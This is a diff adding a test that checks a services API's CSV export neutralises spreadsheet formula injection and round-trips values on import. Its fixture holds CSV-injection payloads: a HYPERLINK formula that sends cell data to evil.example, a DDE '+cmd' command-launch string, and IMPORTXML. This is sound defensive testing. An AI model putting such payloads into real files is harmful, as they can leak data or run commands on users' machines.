@@ -81,3 +81,41 @@ def test_duplicates_and_malformed_files_import_nothing(client: TestClient) -> No
         assert r.status_code == status, (content, r.text)
         assert r.headers["content-type"] == PROBLEM_JSON
     assert client.get("/api/v1/services/export").json() == []
+
+
+FORMULAS = {
+    "name": '=HYPERLINK("https://evil.example/?"&A1,"Open")', "slug": "formula-test",
+    "service_code": "-23", "description": "\t=1+1 starts with a tab",
+    "keywords": ["@SUM(A1:A9)", "fine"], "groups": ["+cmd|' /C calc'!A0"],
+    "department": "'=already quoted", "eligibility": "=IMPORTXML(A1)", "fees": "'plain'",
+    "audience": ["-1"], "opening_hours": "\r=2+2",
+    "channels": {"phone": "+44 1908 252570", "venue": "@venue", "sms": "-0 7700 900123"},
+}
+FORMULA_START = set("=+-@\t\r\0")
+
+
+def test_csv_export_neutralises_formulas_and_imports_back_to_the_same_values(
+        client: TestClient) -> None:
+    """OWASP CSV injection: no exported cell starts a spreadsheet formula (it has a single
+    quote in front); importing the export restores every original value."""
+    created = client.post("/api/v1/services", json=FORMULAS)
+    assert created.status_code == 201, created.text
+    exported = client.get("/api/v1/services/export", params={"format": "csv"}).text
+    [row] = list(csv.DictReader(io.StringIO(exported)))
+    cells = [v for v in row.values() if v]
+    assert all(v[:1] not in FORMULA_START for v in cells), row
+    assert row["name"] == "'" + FORMULAS["name"] and row["department"] == "''=already quoted"
+    assert row["fees"] == "'plain'" and row["phone"] == "'+44 1908 252570"
+
+    copy = exported.replace('"formula-test"', '"formula-copy"').replace(
+        "\"'-23\"", "\"'-23-copy\"")
+    imported = client.post("/api/v1/services/import", content=copy.encode(),
+                           headers={"Content-Type": "text/csv"})
+    assert imported.status_code == 201, imported.text
+    [again] = imported.json()
+    assert again["service_code"] == "-23-copy" and again["slug"] == "formula-copy"
+    original = created.json()
+    for field in ("name", "description", "keywords", "groups", "department", "eligibility",
+                  "fees", "audience", "opening_hours", "channels", "lgsl_codes",
+                  "attributes"):
+        assert again[field] == original[field], field
